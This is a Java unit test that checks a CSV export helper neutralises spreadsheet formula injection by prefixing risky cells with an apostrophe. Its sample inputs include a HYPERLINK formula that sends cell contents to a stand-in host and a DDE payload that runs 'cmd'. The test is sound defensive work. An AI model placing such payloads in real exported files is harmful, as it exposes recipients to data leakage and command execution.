package org.saferboard.query.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvFilesTest {

    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tStarts with a tab", "\rStarts with a return");

    private static List<String> row(String csv) throws IOException {
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        return records.get(0).toList();
    }

    @Test
    void everyCellASpreadsheetWouldRunAsAFormulaIsWrittenAsText() throws IOException {
        String csv = CsvFiles.csv(new String[] {"a", "b", "c", "d", "e", "f"}, row -> row.print(FORMULAS.toArray()));

        assertThat(row(csv)).containsExactly("'=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0",
                "'@SUM(1+1)", "'-2+3", "'\tStarts with a tab", "'\rStarts with a return");
    }

    @Test
    void numbersDatesAndOrdinaryTextAreWrittenAsTheyAre() throws IOException {
        String csv = CsvFiles.csv(new String[] {"a", "b", "c", "d", "e"},
                row -> row.print("-12.50", 3000, java.time.LocalDate.of(2015, 6, 18), "Leicestershire Police", null));

        assertThat(row(csv)).containsExactly("-12.50", "3000", "2015-06-18", "Leicestershire Police", "");
    }
}
